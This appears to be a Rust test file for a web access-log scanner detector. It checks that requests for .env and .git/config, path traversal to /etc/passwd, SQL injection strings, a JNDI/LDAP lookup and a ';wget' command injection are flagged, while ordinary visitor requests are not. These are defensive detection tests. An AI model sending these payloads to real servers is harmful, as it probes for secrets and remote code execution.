//! Requests of scanners, and those of people.

use proptest::prelude::*;

use super::*;
use crate::log::AccessFormat;

#[test]
fn scanners_are_told_by_what_they_ask_for() {
    for (request, status, rule) in [
        ("GET /.env HTTP/1.1", 404, Rule::KnownBadPath),
        ("GET /app/.git/config HTTP/1.1", 403, Rule::KnownBadPath),
        (
            "GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1",
            400,
            Rule::PathTraversal,
        ),
        (
            "GET /%252e%252e%252f%252e%252e%252fx HTTP/1.1",
            404,
            Rule::PathTraversal,
        ),
        (
            "GET /?id=1%20UNION/**/SELECT%20password HTTP/1.1",
            200,
            Rule::SqlInjection,
        ),
        ("GET /?id=1'+OR+'1'='1 HTTP/1.1", 200, Rule::SqlInjection),
        (
            "GET /?q=${jndi:ldap://x} HTTP/1.1",
            200,
            Rule::CommandInjection,
        ),
        (
            "GET /cgi-bin/x?a=;wget%20http://x HTTP/1.1",
            200,
            Rule::CommandInjection,
        ),
        ("POST /wp-login.php HTTP/1.1", 200, Rule::WebBruteForce),
        ("POST /blog/xmlrpc.php HTTP/1.1", 200, Rule::WebBruteForce),
        ("POST /login HTTP/1.1", 401, Rule::WebBruteForce),
        ("GET /nothing HTTP/1.1", 404, Rule::ErrorStorm),
    ] {
        let found = of(request, status, "Mozilla/5.0");
        assert_eq!(found.first(), Some(&rule), "{request} {found:?}");
    }
    assert_eq!(
        of("GET / HTTP/1.1", 200, "sqlmap/1.7"),
        [Rule::BadUserAgent]
    );
}

#[test]
fn a_page_that_refuses_a_name_is_a_failed_login() {
    let line = "203.0.113.7 - admin [20/Nov/2026:12:00:00 +0000] \"GET /x HTTP/1.1\" 401 1";
    let line = AccessLine::parse(line.as_bytes(), AccessFormat::Auto).unwrap();
    assert_eq!(signs(&line), [Rule::WebBruteForce]);
}

#[test]
fn people_are_not() {
    for (request, status) in [
        ("GET / HTTP/1.1", 200),
        ("GET /a/b.c?union=selected&order=by HTTP/1.1", 200),
        ("GET /search?q=how+to+select+a+union HTTP/1.1", 200),
        ("GET /docs/../index.html HTTP/1.1", 200),
        ("GET /phpmyadmin/index.php HTTP/1.1", 200),
        ("GET /private HTTP/1.1", 401),
        ("POST /wp-login.php HTTP/1.1", 302),
        ("POST /login HTTP/1.1", 200),
        ("GET /favicon.ico HTTP/1.1", 304),
        ("GET /sleeping-bags HTTP/1.1", 200),
        ("GET /busy HTTP/1.1", 429),
    ] {
        let found = of(request, status, "Mozilla/5.0 (X11; Linux x86_64)");
        assert_eq!(found, [], "{request}");
    }
}

proptest! {
    #[test]
    fn no_bytes_are_too_strange(target: Vec<u8>, agent: Vec<u8>, status: u16) {
        let line = AccessLine {
            client: [203, 0, 113, 7].into(),
            stamp: crate::log::Stamp::At(aegis_core::Timestamp::EPOCH),
            request: crate::log::Request { method: b"GET", target: &target },
            has_user: false,
            status,
            agent: &agent,
        };
        let _ = signs(&line);
    }
}

fn of(request: &str, status: u16, agent: &str) -> Vec<Rule> {
    let line = format!(
        "203.0.113.7 - - [20/Nov/2026:12:00:00 +0000] \"{request}\" {status} 1 \"-\" \"{agent}\""
    );
    signs(&AccessLine::parse(line.as_bytes(), AccessFormat::Auto).unwrap())
}
